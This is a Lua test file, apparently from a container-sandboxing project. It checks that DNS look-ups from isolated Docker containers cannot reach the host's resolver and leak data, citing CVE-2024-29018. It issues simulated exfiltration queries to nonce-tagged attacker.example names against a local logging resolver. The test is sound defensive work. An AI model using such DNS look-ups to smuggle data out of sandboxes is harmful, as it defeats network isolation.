-- DNS exfiltration out of a stack. Docker's embedded DNS forwards a name it does not
-- know to the engine host's resolver; on 20.10, with that resolver on loopback, it does so from
-- the host's namespace (CVE-2024-29018), so a sandbox on an internal network could leak data in
-- look-ups. The test puts a logging resolver where the engine host's resolver is and asks.
--
-- It needs an engine whose host resolver is a loopback address this test may bind:
-- spec/engines.t starts each nested engine so and sets SANDSTACK_TEST_ENGINE_RESOLVER. On an
-- engine host with another resolver the test is pending: asking it would send queries off the
-- machine.
local sandstack = require "sandstack"
local h = require "helpers"
local core = sandstack.core
local docker = sandstack.docker

local RESOLVER = os.getenv("SANDSTACK_TEST_ENGINE_RESOLVER")
local PREFIX = "sstest-stack-dns-"
local AGENT, SOCAT = "sandstack-test/agent:local", "sandstack-test/socat:local"

describe("DNS exfiltration out of a stack #docker", function()
  local eng, dir, pid

  setup(function()
    eng = assert(sandstack.engine {})
    dir = h.must("mktemp -d /tmp/sstest-dns.XXXXXX"):match("[^\n]+")
  end)
  teardown(function()
    if pid then h.stop(pid) end
    docker.reap { prefix = PREFIX }
    h.sh("rm -rf " .. h.q(dir))
  end)

  local function logged() return h.read_file(dir .. "/queries") or "" end
  local function wait_logged(name, seconds)
    local deadline = core.engine_clock() + seconds
    repeat
      if logged():find(name, 1, true) then return true end
      core.sleep(0.1)
    until core.engine_clock() > deadline
    return false
  end

  it("no look-up from the sandbox or an egress = none sidecar reaches the engine host's resolver", function()
    if not RESOLVER then
      pending("the engine host's resolver is not a loopback address this test controls (spec/engines.t sets one)")
      return
    end
    pid = h.start(("python3 spec/support/dns_logger.py %s 53 %s >%s 2>&1")
      :format(h.q(RESOLVER), h.q(dir .. "/queries"), h.q(dir .. "/logger.out")))
    local up = false
    for _ = 1, 50 do
      if (h.read_file(dir .. "/logger.out") or ""):find("listening", 1, true) then up = true break end
      core.sleep(0.1)
    end
    assert.is_true(up, "the logging resolver did not start: " .. (h.read_file(dir .. "/logger.out") or ""))

    local name = PREFIX .. core.random_hex(3)
    local stack = assert(docker.start(name, { project_name = name, agent_port = 8080, forwarder_image = SOCAT,
      pull = "never", subnet_pool = "10.213.0.0/16",
      services = {
        { name = "sandbox", image = AGENT, command = { "agent" } },
        { name = "db", image = AGENT, command = { "agent" }, env = { AGENT_PORT = "5432" }, egress = "none" },
        { name = "proxy", image = AGENT, command = { "agent" }, env = { AGENT_PORT = "3128" }, egress = "allow", port = 3128 },
      } }))
    local nonce = core.random_hex(4)
    local function lookup(service, host)
      return assert(eng:exec(name .. "-" .. service, { "nslookup", host }, { timeout = 30 }))
    end
    -- the attacks first, then the control: the resolver logs in arrival order
    lookup("sandbox", "sbx-" .. nonce .. ".attacker.example")
    lookup("db", "db-" .. nonce .. ".attacker.example")
    local own = lookup("sandbox", "db") -- the stack's own names still resolve
    lookup("proxy", "control-" .. nonce .. ".attacker.example")
    local control = wait_logged("control-" .. nonce, 10)
    local log = logged()
    stack:destroy()
    assert.is_true(control, "control: the egress sidecar's look-up never reached the resolver, so the test"
      .. " observes nothing here: " .. log)
    assert.equal(0, own.exit_code, own.stdout .. own.stderr)
    assert.matches("10%.213%.", own.stdout)
    assert.is_nil(log:find("sbx-" .. nonce, 1, true), "the sandbox's look-up left the stack:\n" .. log)
    assert.is_nil(log:find("db-" .. nonce, 1, true), "the egress = none sidecar's look-up left the stack:\n" .. log)
  end)
end)
